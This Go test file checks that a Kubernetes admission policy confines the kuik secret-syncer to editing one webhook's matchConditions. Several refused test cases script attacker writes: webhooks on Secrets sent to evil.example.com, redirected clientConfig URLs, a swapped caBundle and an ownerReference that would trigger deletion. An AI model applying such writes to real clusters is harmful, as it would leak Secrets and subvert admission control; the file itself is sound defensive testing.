package policies_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	acv1 "k8s.io/client-go/applyconfigurations/admissionregistration/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"

	"github.com/enix/kuik/charts"
	"github.com/enix/kuik/internal/admitscope"
	"github.com/enix/kuik/internal/testenv"
	"github.com/enix/kuik/internal/testutil"
	"github.com/enix/kuik/pkg/apis/kuik/v1alpha1"
)

// The webhook-writes policy (policies/webhook-writes.yaml, rendered with
// webhook.mutating.matchConditions) and its messages.
const (
	webhookPolicy = "kuik-webhook-writes"
	// webhookConfig is the chart's MutatingWebhookConfiguration, the one the syncer's RBAC names.
	webhookConfig = "kuik-webhook"
	// otherConfig is another configuration, which only the test's extra grant lets the syncer
	// patch.
	otherConfig = "policy-test-other"
	// otherHookName is a second webhook the tests add beside the chart's.
	otherHookName = "other.policy-test.kuik.enix.io"

	msgWOperation  = "the kuik secret-syncer may not create or delete a MutatingWebhookConfiguration"
	msgWName       = "the kuik secret-syncer may only write MutatingWebhookConfiguration kuik-webhook"
	msgWMetadata   = "the kuik secret-syncer may not change the labels, annotations, ownerReferences or finalizers of a MutatingWebhookConfiguration"
	msgWList       = "the kuik secret-syncer may not add, remove, rename or reorder webhooks"
	msgWConditions = "the kuik secret-syncer may only give webhook pods.kuik.enix.io no matchConditions or exactly one, named kuik.enix.io/may-route"
	msgWOther      = "the kuik secret-syncer may only change the matchConditions of webhook pods.kuik.enix.io"
	msgWFields     = "the kuik secret-syncer may only change matchConditions, no other field of a webhook"
)

var (
	webhookOnce sync.Once
	// chartConfig is the chart's MutatingWebhookConfiguration, rendered once (its CA is new at
	// each render).
	chartConfig *unstructured.Unstructured
)

// setupWebhookWrites installs the webhook-writes policy and the chart's RBAC of the
// secret-syncer, both rendered with webhook.mutating.matchConditions. So the syncer's legitimate
// writes go through the rights the chart gives it, get and patch on kuik-webhook. On top of
// them, as if its RBAC had grown, the syncer may create and delete every configuration and patch
// otherConfig: only the policy refuses those.
func setupWebhookWrites(t *testing.T) {
	t.Helper()
	setup(t)
	var err error
	webhookOnce.Do(func() { err = installWebhookWrites(t.Context(), admin(t)) })
	if err != nil {
		t.Fatal(err)
	}
	// Policies bind asynchronously: wait until it refuses the syncer a create (dry run).
	mwc := &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "bind-probe"}}
	var last error
	if err := wait.PollUntilContextTimeout(t.Context(), 50*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
		_, last = syncerClient(t).AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mwc, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return last != nil && strings.Contains(last.Error(), "'"+webhookPolicy+"'"), nil
	}); err != nil {
		t.Fatalf("policy %s never refused the syncer (last: %v): %v", webhookPolicy, last, err)
	}
}

func installWebhookWrites(ctx context.Context, cs kubernetes.Interface) error {
	r, err := charts.Render(charts.Release{Name: "kuik", Namespace: releaseNamespace, Values: map[string]any{
		"webhook": map[string]any{"mutating": map[string]any{"matchConditions": true}},
	}})
	if err != nil {
		return err
	}
	objs := []*unstructured.Unstructured{
		r.Find("ValidatingAdmissionPolicy", webhookPolicy), r.Find("ValidatingAdmissionPolicyBinding", webhookPolicy),
		r.Find("ClusterRole", syncerSA), r.Find("ClusterRoleBinding", syncerSA),
	}
	for _, o := range objs {
		if o == nil {
			return fmt.Errorf("the chart with webhook.mutating.matchConditions renders no %s policy and binding, or no %s ClusterRole and binding", webhookPolicy, syncerSA)
		}
	}
	if chartConfig = r.Find("MutatingWebhookConfiguration", webhookConfig); chartConfig == nil {
		return fmt.Errorf("the chart renders no MutatingWebhookConfiguration %s", webhookConfig)
	}
	if err := testenv.Apply(ctx, cp.Config(), objs); err != nil {
		return err
	}
	role := &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{Name: "policy-test-webhook-writer"},
		Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{admissionregistrationv1.GroupName}, Resources: []string{"mutatingwebhookconfigurations"}, Verbs: []string{"create", "delete"}},
			{APIGroups: []string{admissionregistrationv1.GroupName}, Resources: []string{"mutatingwebhookconfigurations"}, ResourceNames: []string{otherConfig}, Verbs: []string{"get", "patch"}},
		},
	}
	return grant(ctx, cs, role, serviceAccount(syncerSA))
}

// otherHook is a webhook beside the chart's, with a condition of its own. It intercepts a
// resource nobody serves.
func otherHook() map[string]any {
	return map[string]any{
		"name":                    otherHookName,
		"admissionReviewVersions": []any{"v1"},
		"clientConfig":            map[string]any{"url": "https://127.0.0.1:1/other"},
		"rules": []any{map[string]any{
			"operations": []any{"CREATE"}, "apiGroups": []any{"policy-test.kuik.enix.io"}, "apiVersions": []any{"v1"}, "resources": []any{"widgets"},
		}},
		"sideEffects":     "None",
		"failurePolicy":   "Ignore",
		"matchConditions": []any{map[string]any{"name": "team", "expression": "true"}},
	}
}

// installConfig (re)creates, as helm would (another field manager), the configuration name: the
// chart's, plus otherHook when withOther. It is deleted when the test ends, so no other test
// meets it.
func installConfig(t *testing.T, name string, withOther bool) *admissionregistrationv1.MutatingWebhookConfiguration {
	t.Helper()
	cs := admin(t).AdmissionregistrationV1().MutatingWebhookConfigurations()
	if err := cs.Delete(t.Context(), name, metav1.DeleteOptions{}); err != nil && !apierrors.IsNotFound(err) {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cs.Delete(context.Background(), name, metav1.DeleteOptions{}) })
	o := chartConfig.DeepCopy()
	o.SetName(name)
	if withOther {
		hooks, _, _ := unstructured.NestedSlice(o.Object, "webhooks")
		if err := unstructured.SetNestedSlice(o.Object, append(hooks, otherHook()), "webhooks"); err != nil {
			t.Fatal(err)
		}
	}
	if err := testenv.Apply(t.Context(), cp.Config(), []*unstructured.Unstructured{o}); err != nil {
		t.Fatal(err)
	}
	got, err := cs.Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// applyHooks server-side-applies hooks on config the way admitscope.Apply does: its field
// manager, Force, and the UID of the configuration read just before.
func applyHooks(ctx context.Context, cs kubernetes.Interface, config string, hooks ...*acv1.MutatingWebhookApplyConfiguration) error {
	cur, err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, config, metav1.GetOptions{})
	if err != nil {
		return err
	}
	ac := acv1.MutatingWebhookConfiguration(config).WithUID(cur.UID).WithWebhooks(hooks...)
	_, err = cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Apply(ctx, ac, metav1.ApplyOptions{FieldManager: admitscope.FieldManager, Force: true})
	return err
}

// podHook is the pod webhook with these conditions, as name/expression pairs.
func podHook(conds ...[2]string) *acv1.MutatingWebhookApplyConfiguration {
	h := acv1.MutatingWebhook().WithName(admitscope.WebhookName)
	for _, c := range conds {
		h.WithMatchConditions(acv1.MatchCondition().WithName(c[0]).WithExpression(c[1]))
	}
	return h
}

// sendEveryPod is the condition admitscope applies when every pod must be sent.
var sendEveryPod = [2]string{admitscope.ConditionName, "true"}

func jsonPatch(ctx context.Context, cs kubernetes.Interface, config string, ops ...map[string]any) error {
	b, err := json.Marshal(ops)
	if err != nil {
		return err
	}
	_, err = cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, config, types.JSONPatchType, b, metav1.PatchOptions{})
	return err
}

func mergePatchConfig(ctx context.Context, cs kubernetes.Interface, config, patch string) error {
	_, err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, config, types.MergePatchType, []byte(patch), metav1.PatchOptions{})
	return err
}

func op(o, path string, value any) map[string]any {
	m := map[string]any{"op": o, "path": path}
	if value != nil {
		m["value"] = value
	}
	return m
}

// filteredResult is what admitscope computes for one ImageAlternative: a Filtered condition.
func filteredResult(t *testing.T) admitscope.Result {
	t.Helper()
	alt := testutil.NewImageAlternative("team").Group("registry.example/team/").Group("mirror.example/team/").Build()
	r := admitscope.Conditions([]v1alpha1.ImageAlternative{alt}, nil)
	if r.Reason != admitscope.ReasonFiltered || len(r.Conditions) != 1 {
		t.Fatalf("conditions: %s (%s), want one %s condition", r.Reason, r.Message, admitscope.ReasonFiltered)
	}
	return r
}

// TestSyncerMayOnlyApplyThePodWebhooksMatchConditions: admitscope.Apply's writes, by the
// secret-syncer with the chart's RBAC, are admitted, and every other change of the webhook
// configuration it could make is refused by the webhook-writes policy.
func TestSyncerMayOnlyApplyThePodWebhooksMatchConditions(t *testing.T) {
	setupWebhookWrites(t)
	type write func(ctx context.Context, t *testing.T, cs kubernetes.Interface) error
	hookAttack := func(h *acv1.MutatingWebhookApplyConfiguration) write {
		return func(ctx context.Context, _ *testing.T, cs kubernetes.Interface) error {
			return applyHooks(ctx, cs, webhookConfig, h)
		}
	}
	patch := func(ops ...map[string]any) write {
		return func(ctx context.Context, _ *testing.T, cs kubernetes.Interface) error {
			return jsonPatch(ctx, cs, webhookConfig, ops...)
		}
	}
	merge := func(p string) write {
		return func(ctx context.Context, _ *testing.T, cs kubernetes.Interface) error {
			return mergePatchConfig(ctx, cs, webhookConfig, p)
		}
	}
	secretsHook := map[string]any{
		"name": "secrets.evil.example.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None",
		"clientConfig": map[string]any{"url": "https://evil.example.com/mutate"},
		"rules":        []any{map[string]any{"operations": []any{"CREATE", "UPDATE"}, "apiGroups": []any{""}, "apiVersions": []any{"v1"}, "resources": []any{"secrets"}}},
	}

	type tc struct {
		write     write
		withOther bool   // the configuration holds otherHook too
		want      string // "" admitted
	}
	cases := map[string]tc{
		// What admitscope.Apply writes.
		"admitscope.Apply of a filtered result": {write: func(ctx context.Context, t *testing.T, cs kubernetes.Interface) error {
			return admitscope.Apply(ctx, cs, webhookConfig, admitscope.WebhookName, filteredResult(t))
		}},
		"the send-every-pod condition": {write: func(ctx context.Context, _ *testing.T, cs kubernetes.Interface) error {
			return applyHooks(ctx, cs, webhookConfig, podHook(sendEveryPod))
		}},
		"filtered, then every pod, then filtered, then no condition": {write: func(ctx context.Context, t *testing.T, cs kubernetes.Interface) error {
			f := filteredResult(t).Conditions[0]
			for i, h := range []*acv1.MutatingWebhookApplyConfiguration{
				podHook([2]string{f.Name, f.Expression}), podHook(sendEveryPod), podHook([2]string{f.Name, f.Expression}), podHook(),
			} {
				if err := applyHooks(ctx, cs, webhookConfig, h); err != nil {
					return fmt.Errorf("apply %d: %w", i, err)
				}
			}
			return nil
		}},
		"the pod webhook's condition beside another webhook": {withOther: true, write: func(ctx context.Context, t *testing.T, cs kubernetes.Interface) error {
			return admitscope.Apply(ctx, cs, webhookConfig, admitscope.WebhookName, filteredResult(t))
		}},

		// The pod webhook's other fields.
		"clientConfig to a URL": {want: msgWFields, write: patch(op("replace", "/webhooks/0/clientConfig", map[string]any{"url": "https://evil.example.com/mutate"}))},
		"clientConfig to another Service": {want: msgWFields, write: hookAttack(podHook(sendEveryPod).WithClientConfig(
			acv1.WebhookClientConfig().WithService(acv1.ServiceReference().WithNamespace("evil").WithName("evil"))))},
		"clientConfig's caBundle":   {want: msgWFields, write: patch(op("replace", "/webhooks/0/clientConfig/caBundle", "ZXZpbA=="))},
		"namespaceSelector removed": {want: msgWFields, write: patch(op("remove", "/webhooks/0/namespaceSelector", nil))},
		"objectSelector removed":    {want: msgWFields, write: patch(op("remove", "/webhooks/0/objectSelector", nil))},
		"failurePolicy Fail":        {want: msgWFields, write: hookAttack(podHook(sendEveryPod).WithFailurePolicy(admissionregistrationv1.Fail))},
		"rules on Secrets added": {want: msgWFields, write: patch(op("add", "/webhooks/0/rules/-", map[string]any{
			"operations": []any{"CREATE", "UPDATE"}, "apiGroups": []any{""}, "apiVersions": []any{"v1"}, "resources": []any{"secrets"},
		}))},
		"timeoutSeconds":     {want: msgWFields, write: hookAttack(podHook().WithTimeoutSeconds(30))},
		"reinvocationPolicy": {want: msgWFields, write: hookAttack(podHook().WithReinvocationPolicy(admissionregistrationv1.NeverReinvocationPolicy))},
		"matchPolicy Exact":  {want: msgWFields, write: hookAttack(podHook().WithMatchPolicy(admissionregistrationv1.Exact))},
		"other webhook's clientConfig": {withOther: true, want: msgWFields,
			write: patch(op("replace", "/webhooks/1/clientConfig/url", "https://evil.example.com/other"))},

		// The list of webhooks.
		"a webhook on Secrets added": {want: msgWList, write: patch(op("add", "/webhooks/-", secretsHook))},
		"a webhook added by server-side apply": {want: msgWList, write: hookAttack(acv1.MutatingWebhook().WithName("secrets.evil.example.com").
			WithAdmissionReviewVersions("v1").WithSideEffects(admissionregistrationv1.SideEffectClassNone).
			WithClientConfig(acv1.WebhookClientConfig().WithURL("https://evil.example.com/mutate")).
			WithRules(acv1.RuleWithOperations().WithOperations(admissionregistrationv1.Create).WithAPIGroups("").WithAPIVersions("v1").WithResources("secrets")))},
		"the pod webhook removed":        {want: msgWList, write: patch(op("remove", "/webhooks/0", nil))},
		"the other webhook removed":      {withOther: true, want: msgWList, write: patch(op("remove", "/webhooks/1", nil))},
		"the webhooks reordered":         {withOther: true, want: msgWList, write: patch(map[string]any{"op": "move", "from": "/webhooks/1", "path": "/webhooks/0"})},
		"the pod webhook renamed":        {want: msgWList, write: patch(op("replace", "/webhooks/0/name", "pods.evil.example.com"))},
		"the pod webhook replaced":       {want: msgWList, write: patch(op("replace", "/webhooks/0", secretsHook))},
		"every webhook of the list gone": {want: msgWList, write: merge(`{"webhooks":null}`)},

		// The pod webhook's conditions.
		"a second condition":                           {want: msgWConditions, write: hookAttack(podHook(sendEveryPod, [2]string{"kuik.enix.io/extra", "true"}))},
		"a condition of another name":                  {want: msgWConditions, write: hookAttack(podHook([2]string{"evil", "true"}))},
		"the condition under another name beside ours": {want: msgWConditions, write: hookAttack(podHook([2]string{"kuik.enix.io/may-route-2", "false"}, sendEveryPod))},

		// Other webhooks' conditions.
		"the other webhook's condition changed": {withOther: true, want: msgWOther, write: hookAttack(acv1.MutatingWebhook().WithName(otherHookName).
			WithMatchConditions(acv1.MatchCondition().WithName("team").WithExpression("false")))},
		"the other webhook's conditions removed": {withOther: true, want: msgWOther, write: patch(op("remove", "/webhooks/1/matchConditions", nil))},
		"our condition on the other webhook": {withOther: true, want: msgWOther, write: func(ctx context.Context, t *testing.T, cs kubernetes.Interface) error {
			return admitscope.Apply(ctx, cs, webhookConfig, otherHookName, filteredResult(t))
		}},

		// Metadata.
		"a label added":   {want: msgWMetadata, write: merge(`{"metadata":{"labels":{"evil":"true"}}}`)},
		"a label removed": {want: msgWMetadata, write: merge(`{"metadata":{"labels":{"app.kubernetes.io/managed-by":null}}}`)},
		"an annotation":   {want: msgWMetadata, write: merge(`{"metadata":{"annotations":{"cert-manager.io/inject-ca-from":"evil/evil"}}}`)},
		"a finalizer":     {want: msgWMetadata, write: merge(`{"metadata":{"finalizers":["evil.example.com/keep"]}}`)},
		"an ownerReference to an absent owner (the garbage collector would delete it)": {want: msgWMetadata, write: merge(
			`{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"0c9d1c2e-0000-4000-8000-00000000000a"}]}}`)},

		// Create, delete, another configuration.
		"the configuration deleted": {want: msgWOperation, write: func(ctx context.Context, _ *testing.T, cs kubernetes.Interface) error {
			return cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, webhookConfig, metav1.DeleteOptions{})
		}},
		"a configuration created": {want: msgWOperation, write: func(ctx context.Context, _ *testing.T, cs kubernetes.Interface) error {
			mwc := &admissionregistrationv1.MutatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "evil"},
				Webhooks: []admissionregistrationv1.MutatingWebhook{{
					Name: "secrets.evil.example.com", AdmissionReviewVersions: []string{"v1"},
					SideEffects:  ptr.To(admissionregistrationv1.SideEffectClassNone),
					ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://evil.example.com/mutate")},
				}},
			}
			_, err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mwc, metav1.CreateOptions{})
			return err
		}},
		"the matchConditions of another configuration": {want: msgWName, write: func(ctx context.Context, t *testing.T, cs kubernetes.Interface) error {
			installConfig(t, otherConfig, false)
			return applyHooks(ctx, cs, otherConfig, podHook(sendEveryPod))
		}},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			before := installConfig(t, webhookConfig, c.withOther)
			err := c.write(t.Context(), t, syncerClient(t))
			switch {
			case c.want == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case c.want != "" && err == nil:
				t.Fatalf("admitted, want refused by %s with %q", webhookPolicy, c.want)
			case c.want != "" && (!apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+webhookPolicy+"'") || !strings.Contains(err.Error(), c.want)):
				t.Fatalf("refusal = %v, want a Forbidden from %s with %q", err, webhookPolicy, c.want)
			}
			// Admitted or not, nothing but the pod webhook's matchConditions changed.
			after, err := admin(t).AdmissionregistrationV1().MutatingWebhookConfigurations().Get(t.Context(), webhookConfig, metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(withoutPodConditions(before), withoutPodConditions(after)); diff != "" {
				t.Errorf("the configuration changed beyond the pod webhook's matchConditions (-before +after):\n%s", diff)
			}
		})
	}
}

// withoutPodConditions is what of c the syncer must never change: its labels, annotations,
// owners, finalizers and webhooks, the pod webhook's matchConditions left out.
func withoutPodConditions(c *admissionregistrationv1.MutatingWebhookConfiguration) any {
	hooks := make([]admissionregistrationv1.MutatingWebhook, len(c.Webhooks))
	for i, h := range c.Webhooks {
		if h.Name == admitscope.WebhookName {
			h.MatchConditions = nil
		}
		hooks[i] = h
	}
	return []any{c.Labels, c.Annotations, c.OwnerReferences, c.Finalizers, hooks}
}

// Each step of admitscope's contract lands as written: the filtered condition, the
// send-every-pod condition, no condition.
func TestSyncersMatchConditionsLandAsApplied(t *testing.T) {
	setupWebhookWrites(t)
	installConfig(t, webhookConfig, false)
	syncer := syncerClient(t)
	f := filteredResult(t)
	for _, step := range []struct {
		name  string
		apply func(ctx context.Context) error
		want  []admissionregistrationv1.MatchCondition
	}{
		{"filtered", func(ctx context.Context) error {
			return admitscope.Apply(ctx, syncer, webhookConfig, admitscope.WebhookName, f)
		}, f.Conditions},
		{"every pod", func(ctx context.Context) error { return applyHooks(ctx, syncer, webhookConfig, podHook(sendEveryPod)) },
			[]admissionregistrationv1.MatchCondition{{Name: admitscope.ConditionName, Expression: "true"}}},
		{"none", func(ctx context.Context) error { return applyHooks(ctx, syncer, webhookConfig, podHook()) }, nil},
	} {
		if err := step.apply(t.Context()); err != nil {
			t.Fatalf("%s: %v", step.name, err)
		}
		got, err := admin(t).AdmissionregistrationV1().MutatingWebhookConfigurations().Get(t.Context(), webhookConfig, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(step.want, got.Webhooks[0].MatchConditions); diff != "" {
			t.Errorf("%s: matchConditions (-want +got):\n%s", step.name, diff)
		}
	}
}

// The policy bounds the secret-syncer only: a cluster admin (helm, kubectl) changes the
// configuration at will, over the syncer's conditions too.
func TestWebhookWritesPolicyLeavesOthersAlone(t *testing.T) {
	setupWebhookWrites(t)
	cs := admin(t)
	for name, write := range map[string]func(ctx context.Context, t *testing.T) error{
		"clientConfig to a URL": func(ctx context.Context, t *testing.T) error {
			return jsonPatch(ctx, cs, webhookConfig, op("replace", "/webhooks/0/clientConfig", map[string]any{"url": "https://127.0.0.1:1/mutate"}))
		},
		"namespaceSelector removed": func(ctx context.Context, t *testing.T) error {
			return jsonPatch(ctx, cs, webhookConfig, op("remove", "/webhooks/0/namespaceSelector", nil))
		},
		"a second condition of its own": func(ctx context.Context, t *testing.T) error {
			return jsonPatch(ctx, cs, webhookConfig, op("add", "/webhooks/0/matchConditions/-", map[string]any{"name": "admin", "expression": "true"}))
		},
		"the other webhook's condition changed": func(ctx context.Context, t *testing.T) error {
			return jsonPatch(ctx, cs, webhookConfig, op("replace", "/webhooks/1/matchConditions/0/expression", "false"))
		},
		"a label": func(ctx context.Context, t *testing.T) error {
			return mergePatchConfig(ctx, cs, webhookConfig, `{"metadata":{"labels":{"team":"a"}}}`)
		},
		"the other webhook removed": func(ctx context.Context, t *testing.T) error {
			return jsonPatch(ctx, cs, webhookConfig, op("remove", "/webhooks/1", nil))
		},
		"helm's apply with a new timeout": func(ctx context.Context, t *testing.T) error {
			o := chartConfig.DeepCopy()
			hooks, _, _ := unstructured.NestedSlice(o.Object, "webhooks")
			hooks[0].(map[string]any)["timeoutSeconds"] = int64(7)
			if err := unstructured.SetNestedSlice(o.Object, hooks, "webhooks"); err != nil {
				return err
			}
			return testenv.Apply(ctx, cp.Config(), []*unstructured.Unstructured{o})
		},
		"the configuration deleted": func(ctx context.Context, t *testing.T) error {
			return cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, webhookConfig, metav1.DeleteOptions{})
		},
		"a configuration created": func(ctx context.Context, t *testing.T) error {
			installConfig(t, otherConfig, false)
			return nil
		},
	} {
		t.Run(name, func(t *testing.T) {
			installConfig(t, webhookConfig, true)
			if err := admitscope.Apply(t.Context(), syncerClient(t), webhookConfig, admitscope.WebhookName, filteredResult(t)); err != nil {
				t.Fatal(err)
			}
			if err := write(t.Context(), t); err != nil {
				t.Errorf("cluster admin refused: %v", err)
			}
		})
	}
}
